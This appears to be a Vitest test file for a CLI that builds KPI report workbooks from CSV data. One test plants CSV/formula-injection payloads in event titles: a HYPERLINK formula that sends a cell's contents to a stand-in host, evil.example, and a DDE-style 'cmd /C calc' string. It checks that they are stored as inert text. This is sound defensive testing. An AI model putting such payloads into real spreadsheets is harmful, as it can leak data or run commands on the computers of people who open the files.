// `kpi-planner workbook` end to end: CSV inputs in, an .xlsx that exceljs reads back out.
import { copyFileSync, existsSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { cells, filesIn, readWorkbook, ROOT, runCli, tempDir } from './run-cli';

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

describe('kpi-planner workbook', () => {
  it('writes a workbook from comma-separated data and events with hostile titles kept as text', async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'data.csv'), [
      'month,kpi,actual,target',
      '2026-10,followers-total,"4,980","5,000"',
      '2026-11,Total followers,5100.5,5200',
      '2026-11,new leads in the CRM,40,',
      '2026-11,comments,,300',
    ].join('\n'));
    writeFileSync(path.join(dir, 'events.csv'), [
      'type,date,time,title',
      `webinar,2026-11-12,18:00,"${HOSTILE.replace(/"/g, '""')}"`,
      'open day,2026-11-26,,"+cmd|\' /C calc\'!A0"',
    ].join('\r\n'));
    const r = runCli(['workbook', '--template', 'social-media-content', '--month', '2026-11', '--today', '2026-11-20',
      '--data', 'data.csv', '--events', 'events.csv', '--lang', 'en', '--theme', '=1+1', '--goal', 'sales', '--out', 'report.xlsx'], dir);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const out = path.join(dir, 'report.xlsx');
    expect(r.stdout).toBe(`Wrote ${out}\nsocial-media-content, 2026-11 as of 2026-11-20 (en): 10 KPIs: 0 met, 1 at risk, 0 missed, 9 without figures; 4 data rows, 2 events\n`);
    expect(filesIn(dir)).toEqual(['data.csv', 'events.csv', 'report.xlsx']);
    const wb = await readWorkbook(out);
    expect(wb.worksheets.map((s) => s.name)).toEqual(expect.arrayContaining(['Summary', 'Activity plan', 'Monthly campaign', 'KPI results', 'Monthly review']));
    const all = cells(wb);
    const formulas = all.filter((c) => typeof c.value === 'object' && c.value !== null && 'formula' in c.value);
    expect(formulas.length).toBeGreaterThan(0);
    for (const f of formulas) expect(JSON.stringify(f.value)).not.toMatch(/evil|calc|1\+1/);
    expect(all.some((c) => typeof c.value === 'string' && c.value.includes(HOSTILE))).toBe(true);
    expect(all.some((c) => c.value === '=1+1')).toBe(true);
    expect(all.some((c) => c.value === 5100.5)).toBe(true);
  });

  it('reads a Windows-1257 semicolon file with Latvian KPI names and decimal commas', async () => {
    const dir = tempDir();
    // "Kopējais sekotāju skaits" in cp1257, written byte by byte: ē = E7, ā = E2.
    const name = Buffer.from([0x4b, 0x6f, 0x70, 0xe7, 0x6a, 0x61, 0x69, 0x73, 0x20, 0x73, 0x65, 0x6b, 0x6f, 0x74, 0xe2, 0x6a, 0x75, 0x20, 0x73, 0x6b, 0x61, 0x69, 0x74, 0x73]);
    writeFileSync(path.join(dir, 'dati.csv'), Buffer.concat([Buffer.from('kpi;month;target;actual\r\n'), name, Buffer.from(';2026-11;5\u00a0200;5\u00a0230,5\r\n', 'latin1')]));
    const r = runCli(['workbook', '--template', 'social-media-content', '--month', '2026-11', '--today', '2026-11-20', '--data', 'dati.csv', '--out', 'lv.xlsx'], dir);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('(lv): 10 KPIs: 1 met');
    const all = cells(await readWorkbook(path.join(dir, 'lv.xlsx')));
    expect(all.some((c) => c.value === 5230.5)).toBe(true);
  });

  it('takes a template file and defaults --today to the clock', async () => {
    const dir = tempDir();
    copyFileSync(path.join(ROOT, 'templates/social-media-content.json'), path.join(dir, 'mine.json'));
    const r = runCli(['workbook', '--template', './mine.json', '--month', '2026-11', '--out', 'mine.xlsx'], dir);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const now = new Date();
    const today = `${now.getFullYear()}-${String(now.getMonth() + 1).padStart(2, '0')}-${String(now.getDate()).padStart(2, '0')}`;
    expect(r.stdout).toContain(`as of ${today}`);
    expect(existsSync(path.join(dir, 'mine.xlsx'))).toBe(true);
  });
});
